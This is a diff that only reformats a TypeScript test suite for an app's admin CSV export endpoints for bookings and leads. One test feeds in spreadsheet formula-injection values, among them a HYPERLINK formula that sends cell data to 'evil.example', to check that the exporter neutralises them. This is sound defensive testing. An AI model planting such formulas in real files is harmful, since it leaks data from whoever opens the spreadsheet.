@@ -37,7 +37,18 @@ const BOOKING_HEADER = [
   "balanceDue",
   "barCommission",
 ];
-const LEAD_HEADER = ["id", "createdAt", "status", "name", "email", "phone", "eventType", "location", "message", "bookingId"];
+const LEAD_HEADER = [
+  "id",
+  "createdAt",
+  "status",
+  "name",
+  "email",
+  "phone",
+  "eventType",
+  "location",
+  "message",
+  "bookingId",
+];
 
 type Handler = (req: Request, ctx: { params: Promise<Record<string, string>> }) => Promise<Response>;
 
@@ -62,10 +73,15 @@ async function download(handler: Handler, path: string) {
 describe("GET /api/admin/export/bookings.csv", () => {
   it("answers a CSV download: headers, UTF-8 BOM, header row, CRLF records", async () => {
     await createBooking({ clientName: "Zoë Brontë", eventDate: "2030-01-10" });
-    const { response, bytes, text, header, rows } = await download(exportBookings as never, "/api/admin/export/bookings.csv?from=2030-01-01&to=2030-01-31");
+    const { response, bytes, text, header, rows } = await download(
+      exportBookings as never,
+      "/api/admin/export/bookings.csv?from=2030-01-01&to=2030-01-31",
+    );
     expect(response.status).toBe(200);
     expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
-    expect(response.headers.get("content-disposition")).toBe('attachment; filename="bookings-2030-01-01-to-2030-01-31.csv"');
+    expect(response.headers.get("content-disposition")).toBe(
+      'attachment; filename="bookings-2030-01-01-to-2030-01-31.csv"',
+    );
     expect(response.headers.get("cache-control")).toBe("private, no-store");
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(header).toEqual(BOOKING_HEADER);
@@ -131,10 +147,18 @@ describe("GET /api/admin/export/bookings.csv", () => {
       eventAddress: "Flat 2\r\n10 Rose Street\nEdinburgh",
       eventLocation: 'The "Old" Kirk, Leith',
     });
-    const evil = await createBooking({ clientName: '=HYPERLINK("https://evil.example/?"&L2,"Click")', eventLocation: "@SUM(1+1)", eventAddress: "-2+3" });
+    const evil = await createBooking({
+      clientName: '=HYPERLINK("https://evil.example/?"&L2,"Click")',
+      eventLocation: "@SUM(1+1)",
+      eventAddress: "-2+3",
+    });
     const { text, rows } = await download(exportBookings as never, "/api/admin/export/bookings.csv");
     const byId = new Map(rows.map((r) => [Number(r.id), r]));
-    expect(byId.get(awkward.id)).toMatchObject({ clientName: 'O"Brien, Mary', eventAddress: "Flat 2\r\n10 Rose Street\nEdinburgh", eventLocation: 'The "Old" Kirk, Leith' });
+    expect(byId.get(awkward.id)).toMatchObject({
+      clientName: 'O"Brien, Mary',
+      eventAddress: "Flat 2\r\n10 Rose Street\nEdinburgh",
+      eventLocation: 'The "Old" Kirk, Leith',
+    });
     expect(text).toContain('"O""Brien, Mary"');
     expect(text).toContain('"Flat 2\r\n10 Rose Street\nEdinburgh"');
     expect(byId.get(evil.id)).toMatchObject({
@@ -148,8 +172,19 @@ describe("GET /api/admin/export/bookings.csv", () => {
   });
 
   it("owes nothing on a withdrawn booking, and lists only the dashboards' bookings (no unpaid holds)", async () => {
-    const cancelled = await createBooking({ status: "cancelled", paymentStatus: "cancelled", totalAmount: "300.00", paidAmount: "100.00" });
-    const refunded = await createBooking({ status: "refunded", paymentStatus: "refunded", totalAmount: "300.00", paidAmount: "300.00", refundedAmount: "300.00" });
+    const cancelled = await createBooking({
+      status: "cancelled",
+      paymentStatus: "cancelled",
+      totalAmount: "300.00",
+      paidAmount: "100.00",
+    });
+    const refunded = await createBooking({
+      status: "refunded",
+      paymentStatus: "refunded",
+      totalAmount: "300.00",
+      paidAmount: "300.00",
+      refundedAmount: "300.00",
+    });
     const pending = await createBooking({ status: "pending", totalAmount: "300.00" });
     await createBooking({ status: "awaiting_payment", holdExpiresAt: new Date(Date.now() + 600_000) });
     await createBooking({ status: "expired", holdExpiresAt: new Date(Date.now() - 600_000) });
@@ -166,14 +201,19 @@ describe("GET /api/admin/export/bookings.csv", () => {
   it("filters on the event date, both ends inclusive and each optional", async () => {
     const dates = ["2030-01-01", "2030-01-15", "2030-01-31", "2030-02-01", "2029-12-31"];
     for (const eventDate of dates) await createBooking({ eventDate });
-    const datesOf = async (query: string) => (await download(exportBookings as never, `/api/admin/export/bookings.csv${query}`)).rows.map((r) => r.eventDate).sort();
+    const datesOf = async (query: string) =>
+      (await download(exportBookings as never, `/api/admin/export/bookings.csv${query}`)).rows
+        .map((r) => r.eventDate)
+        .sort();
     expect(await datesOf("?from=2030-01-01&to=2030-01-31")).toEqual(["2030-01-01", "2030-01-15", "2030-01-31"]);
     expect(await datesOf("?from=2030-01-31")).toEqual(["2030-01-31", "2030-02-01"]);
     expect(await datesOf("?to=2030-01-01")).toEqual(["2029-12-31", "2030-01-01"]);
     expect(await datesOf("?from=&to=")).toEqual([...dates].sort());
     expect(await datesOf("?from=2031-01-01")).toEqual([]);
     const open = await download(exportBookings as never, "/api/admin/export/bookings.csv?from=2030-01-31");
-    expect(open.response.headers.get("content-disposition")).toBe('attachment; filename="bookings-2030-01-31-to-end.csv"');
+    expect(open.response.headers.get("content-disposition")).toBe(
+      'attachment; filename="bookings-2030-01-31-to-end.csv"',
+    );
     const all = await download(exportBookings as never, "/api/admin/export/bookings.csv");
     expect(all.response.headers.get("content-disposition")).toBe('attachment; filename="bookings-all.csv"');
   });
@@ -203,7 +243,10 @@ describe("GET /api/admin/export/bookings.csv", () => {
         clientEmail: `client${i + 2}@example.com`,
       })),
     });
-    const { rows, chunks } = await download(exportBookings as never, "/api/admin/export/bookings.csv?from=2030-03-01&to=2030-03-01");
+    const { rows, chunks } = await download(
+      exportBookings as never,
+      "/api/admin/export/bookings.csv?from=2030-03-01&to=2030-03-01",
+    );
     expect(rows).toHaveLength(1200);
     const ids = rows.map((r) => Number(r.id));
     expect(ids).toEqual([...ids].sort((a, b) => a - b));
@@ -235,13 +278,23 @@ describe("GET /api/admin/export/leads.csv", () => {
       },
     });
     const converted = await db.lead.create({
-      data: { name: "-Sneaky", email: "sneaky@example.com", phone: "07700 900789", eventType: "wedding", location: "Perth", message: "Yes", status: "converted" },
+      data: {
+        name: "-Sneaky",
+        email: "sneaky@example.com",
+        phone: "07700 900789",
+        eventType: "wedding",
+        location: "Perth",
+        message: "Yes",
+        status: "converted",
+      },
     });
     const booking = await createBooking({ leadId: converted.id, source: "lead" });
     const { response, bytes, header, rows } = await download(exportLeads as never, "/api/admin/export/leads.csv");
     expect(response.status).toBe(200);
     expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
-    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/);
+    expect(response.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
+    );
     expect(response.headers.get("cache-control")).toBe("private, no-store");
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(header).toEqual(LEAD_HEADER);
@@ -276,7 +329,13 @@ describe("GET /api/admin/export/leads.csv", () => {
 
   it("streams more than one page of leads", async () => {
     await db.lead.createMany({
-      data: Array.from({ length: 1001 }, (_, i) => ({ name: `Lead ${i + 1}`, email: `lead${i + 1}@example.com`, phone: "07700 900000", eventType: "birthday", message: "Hi" })),
+      data: Array.from({ length: 1001 }, (_, i) => ({
+        name: `Lead ${i + 1}`,
+        email: `lead${i + 1}@example.com`,
+        phone: "07700 900000",
+        eventType: "birthday",
+        message: "Hi",
+      })),
     });
     const { rows, chunks } = await download(exportLeads as never, "/api/admin/export/leads.csv");
     expect(rows.map((r) => r.name)).toEqual(Array.from({ length: 1001 }, (_, i) => `Lead ${i + 1}`));
